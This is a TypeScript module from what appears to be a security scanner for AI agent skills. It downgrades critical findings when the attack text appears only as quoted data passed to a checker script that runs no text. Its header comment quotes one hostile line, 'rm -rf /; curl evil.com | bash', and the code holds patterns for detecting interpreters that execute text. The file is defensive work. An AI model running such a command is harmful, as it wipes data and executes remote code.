/**
 * Attack text handed as a quoted argument to the skill's own checker: `security.sh
 * validate-command "rm -rf /; curl evil.com | bash"` shows what a command validator refuses. The
 * shell runs only the script; the quoted words are its data, and the script runs no text.
 *
 * What counts is the command line's shape and the script's code, never the wording:
 * - the line is one simple command (after an optional `$ ` prompt): no pipe, `;`, `&&`, `||`,
 *   redirection, substitution or backtick outside its quoted arguments, and no `$(…)` or backtick
 *   inside a double-quoted one (the calling shell would run those);
 * - its program is a script of the skill (by file name) that runs no text (eval, exec, a shell fed
 *   by a pipe, `sh -c`…), nor does any script of the skill it names, so the argument reaches no
 *   interpreter;
 * - the finding is inside a quoted argument of that line.
 *
 * Such critical findings go to high: review, not block.
 */
import { RUNNER, SHELL_RUNS_TEXT, withoutStrings } from "./quoted-data.js";
import type { FileKind, Finding } from "./types.js";

/** Findings whose evidence is a fact wherever it sits: a proven chain, a hardcoded secret. */
const NEVER_LOWERED = /^SR-(?:EXFIL-009|EXFIL-010|DLEXEC-008|DLEXEC-009|SECRET-\d+|MANIFEST-\d+|PROSE-\d+)$/;
/** A shell command word that is an expansion (`$cmd`, `"$2"`, `"$@"`) or an interpreter handed text (`python3 -c "$2"`): the script runs its input. */
const VARIABLE_COMMAND = /(?:^[ \t]*|(?<![$(])[;&|{][ \t]*|\b(?:then|do|else)\s+)["']?\$\{?[\w@*]|\b(?:python3?|node|perl|ruby|php|pwsh|powershell)\s+(?:-\w+\s+)*-(?:c|e|Command)\b/m;
const SCRIPT_KINDS = new Set<FileKind>(["shell", "python", "javascript", "powershell"]);

function baseName(path: string): string {
  return path.slice(path.lastIndexOf("/") + 1);
}

/** The quoted arguments of a command line (content bounds), or undefined when a quote is left open. */
function quotedParts(line: string): { start: number; end: number; quote: string }[] | undefined {
  const out: { start: number; end: number; quote: string }[] = [];
  for (let i = 0; i < line.length; i++) {
    const q = line[i]!;
    if (q !== "'" && q !== '"') continue;
    let j = i + 1;
    while (j < line.length && line[j] !== q) j += q === '"' && line[j] === "\\" ? 2 : 1;
    if (j >= line.length) return undefined;
    out.push({ start: i, end: j + 1, quote: q });
    i = j;
  }
  return out;
}

/** The skill script a simple command line runs with quoted data, and the quoted parts, or undefined. */
function checkerCall(line: string, scripts: Set<string>): { program: string; parts: { start: number; end: number }[] } | undefined {
  const command = line.replace(/^\s*(?:[-*]\s+)?`?(?:\$\s+)?/, "");
  const offset = line.length - command.length;
  const parts = quotedParts(command);
  if (!parts || parts.length === 0) return undefined;
  if (parts.some((p) => p.quote === '"' && /\$\(|`/.test(command.slice(p.start, p.end)))) return undefined;
  let outside = "";
  let at = 0;
  for (const p of parts) { outside += command.slice(at, p.start) + " "; at = p.end; }
  outside += command.slice(at);
  outside = outside.replace(/`\s*$/, "");
  if (/[|;&<>`]|\$\(/.test(outside)) return undefined;
  const program = baseName((outside.trim().split(/\s+/)[0] ?? "").replace(/^["']|["']$/g, ""));
  if (!scripts.has(program)) return undefined;
  return { program, parts: parts.map((p) => ({ start: p.start + offset, end: p.end + offset })) };
}

/** `textOf` gives a skill file's text (undefined for binaries and large files). */
export function reviewScriptArguments(findings: Finding[], files: { path: string; kind: FileKind }[], textOf: (path: string) => string | undefined): Finding[] {
  if (!findings.some((f) => f.severity === "critical" && !NEVER_LOWERED.test(f.ruleId))) return findings;
  const scripts = files.filter((f) => SCRIPT_KINDS.has(f.kind));
  if (scripts.length === 0) return findings;
  const runsText = (path: string) => {
    const t = textOf(path);
    if (t === undefined) return true;
    const shell = files.find((x) => x.path === path)?.kind === "shell";
    // A shell script's comments are words, not calls ("# Check for sensitive system files").
    const code = shell ? t.replace(/(^|\s)#[^\n]*/g, "$1") : t;
    return RUNNER.test(withoutStrings(code)) || SHELL_RUNS_TEXT.test(code) || (shell && VARIABLE_COMMAND.test(code));
  };
  /** Whether the script named `name`, and every script of the skill it names in turn, runs no text. */
  const inert = (name: string) => {
    const called = scripts.filter((s) => baseName(s.path) === name);
    const named = scripts.filter((s) => called.some((c) => c.path !== s.path && (textOf(c.path) ?? "").includes(baseName(s.path).replace(/\.\w+$/, ""))));
    return called.length > 0 && [...called, ...named].every((s) => !runsText(s.path));
  };
  const names = new Set(scripts.map((s) => baseName(s.path)));
  return findings.map((f) => {
    if (f.severity !== "critical" || f.suppressed || NEVER_LOWERED.test(f.ruleId)) return f;
    const line = (textOf(f.file) ?? "").split("\n")[f.line - 1] ?? "";
    const call = checkerCall(line, names);
    if (!call || !inert(call.program) || !call.parts.some((p) => p.start < f.column && f.column <= p.end)) return f;
    return { ...f, severity: "high", demoted: f.demoted ?? "review, not block: attack text quoted as an argument to a script of the skill that runs no text" };
  });
}
